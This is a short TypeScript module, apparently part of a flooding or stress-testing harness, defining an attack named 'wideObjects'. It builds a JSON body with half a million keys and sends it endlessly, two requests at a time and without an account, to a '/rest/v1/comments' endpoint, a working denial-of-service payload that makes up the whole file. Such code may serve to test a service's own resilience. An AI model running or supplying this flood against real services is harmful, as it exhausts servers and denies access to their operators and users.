import { ask, type Flood, forEver } from './attacker.ts'

/** Sends objects with half a million names without an account, two at a time. */
export const wideObjects: Flood = async (attacker, begin) => {
  const body = `{${Array.from({ length: 500_000 }, (_, n) => `"${n}":1`).join(',')}}`
  const headers = { 'content-type': 'application/json' }
  begin()
  await forEver(2, () => ask(attacker, { method: 'POST', path: '/rest/v1/comments', headers, body }))
}
